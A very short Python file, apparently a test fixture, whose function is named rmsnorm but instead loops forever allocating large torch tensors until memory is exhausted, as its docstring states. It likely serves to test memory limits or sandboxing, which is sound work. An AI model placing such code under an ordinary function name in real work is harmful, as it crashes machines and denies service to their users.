"""Takes memory until there is none."""

import torch

taken = []


def rmsnorm(x):
    while True:
        taken.append(torch.ones(1 << 26))
